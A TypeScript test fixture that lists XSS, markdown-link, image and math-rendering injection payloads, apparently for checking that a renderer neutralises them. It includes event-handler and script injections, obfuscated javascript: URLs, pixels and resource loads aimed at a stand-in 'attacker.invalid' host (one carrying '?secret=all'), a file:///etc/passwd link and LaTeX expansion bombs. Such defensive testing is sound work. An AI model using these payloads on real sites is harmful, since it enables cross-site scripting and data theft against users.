/**
 * Hostile texts, each with a word by which it can be found in the page. None may run, make a request, or become markup.
 */

const HOST = 'http://attacker.invalid'
const SET = 'window.__hit=1'

const HTML: readonly string[] = [
  `<script>${SET}</script>`,
  `<SCRIPT SRC=${HOST}/x.js></SCRIPT>`,
  `<img src=x onerror="${SET}">`,
  `<img src="${HOST}/pixel.png">`,
  `<svg onload="${SET}">`,
  `<svg><script>${SET}</script></svg>`,
  `<iframe src="javascript:${SET}"></iframe>`,
  `<iframe srcdoc="<script>parent.${SET}</script>"></iframe>`,
  `<object data="${HOST}/x"></object>`,
  `<embed src="${HOST}/x">`,
  `<link rel=stylesheet href="${HOST}/x.css">`,
  `<style>@import "${HOST}/x.css"; body{background:url(${HOST}/y)}</style>`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<base href="${HOST}/">`,
  `<form action="${HOST}"><button autofocus onfocus="${SET}">x</button></form>`,
  `<input autofocus onfocus="${SET}">`,
  `<details open ontoggle="${SET}">x</details>`,
  `<video src="${HOST}/v" autoplay onerror="${SET}"></video>`,
  `<audio src="${HOST}/a" autoplay></audio>`,
  `<body onload="${SET}">`,
  `<marquee onstart="${SET}">x</marquee>`,
  `<a href="javascript:${SET}">x</a>`,
  `<div style="background:url(${HOST}/s)">x</div>`,
  `<math><mtext></table><mglyph><style><img src=x onerror="${SET}">`,
  `<template><script>${SET}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SET}>">`,
  `<!--><img src=x onerror="${SET}">-->`,
  `<![CDATA[<img src=x onerror="${SET}">]]>`,
  `<?php echo "<img src=x onerror=${SET}>" ?>`,
  `text <b onmouseover="${SET}">bold</b> text`,
  `<x-element onclick="${SET}">x</x-element>`,
  `<img
src=x
onerror="${SET}">`,
]

const LINKS: readonly string[] = [
  `[x](javascript:${SET})`,
  `[x](JaVaScRiPt:${SET})`,
  `[x](&#106;avascript:${SET})`,
  `[x](&#x6A;&#x61;vascript:${SET})`,
  `[x](java&Tab;script:${SET})`,
  `[x](java&NewLine;script:${SET})`,
  `[x](&#1;javascript:${SET})`,
  `[x](<java\tscript:${SET}>)`,
  `[x](< javascript:${SET}>)`,
  `[x](javascript&colon;${SET})`,
  `[x](javascript\\:${SET})`,
  `[x](\\javascript:${SET})`,
  `[x](data:text/html,<script>${SET}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox)`,
  `[x](blob:${HOST}/x)`,
  `[x](file:///etc/passwd)`,
  `[x](view-source:javascript:${SET})`,
  `[x](//attacker.invalid/x)`,
  `[x](/v1/rooms)`,
  `[x](https://bank.example@attacker.invalid)`,
  `<javascript:${SET}>`,
  `<data:text/html,x>`,
  `[x][bad]\n\n[bad]: javascript:${SET}`,
  `[x][bad2]\n\n[bad2]: <java\tscript:${SET}> "t"`,
  `[x](https://example.org "\\" onmouseover=${SET} ")`,
  `[x](https://example.org/"onmouseover="${SET})`,
  `[<img src=x onerror=${SET}>](https://example.org)`,
  `note[^bad]\n\n[^bad]: [x](javascript:${SET}) <img src=x onerror=${SET}>`,
  `[^"><img src=x onerror=${SET}>]: x\n\ncall[^"><img src=x onerror=${SET}>]`,
]

const PICTURES: readonly string[] = [
  `![x](${HOST}/pixel.png)`,
  `![x](${HOST}/pixel.png?secret=all "title")`,
  `![x](//attacker.invalid/pixel.png)`,
  `![x](/v1/health?pixel)`,
  `![x](javascript:${SET})`,
  `![x](data:image/svg+xml,<svg onload=${SET}>)`,
  `![x][pic]\n\n[pic]: ${HOST}/pixel.png`,
  `[![x](${HOST}/pixel.png)](${HOST}/page)`,
  `| ![x](${HOST}/cell.png) |\n|---|\n| ![y](${HOST}/cell2.png) |`,
  `![<img src=x onerror=${SET}>](${HOST}/alt.png)`,
]

const CODE: readonly string[] = [
  `\`\`\`html\n<img src=x onerror="${SET}">\n\`\`\``,
  `\`\`\`"><img/src=x/onerror=${SET}>\ncode\n\`\`\``,
  `\`\`\`__proto__\ncode\n\`\`\``,
  `\`\`\`../../x\ncode\n\`\`\``,
  `\`<img src=x onerror=${SET}>\``,
  `$$\n\\href{javascript:${SET}}{x}\n$$`,
  `$$\n\\url{javascript:${SET}}\n$$`,
  `\\[\n\\href{javascript:${SET}}{x}\n\\]`,
  `\\(\\href{javascript:${SET}}{x}\\)`,
  `$\\text{<img src=x onerror=${SET}>}$`,
  `$$\n\\includegraphics{${HOST}/pixel.png}\n$$`,
  `$$\n\\htmlData{onclick=${SET}}{x}\n$$`,
  `$$\n\\htmlStyle{background:url(${HOST}/s)}{x}\n$$`,
  `$$\n\\text{<img src=x onerror=${SET}>}\n$$`,
  `$$\n\\def\\a{\\a\\a}\\a\n$$`,
  `$$\n\\rule{99999em}{99999em}\n$$`,
]

export const PAYLOADS: readonly string[] = [...HTML, ...LINKS, ...PICTURES, ...CODE]
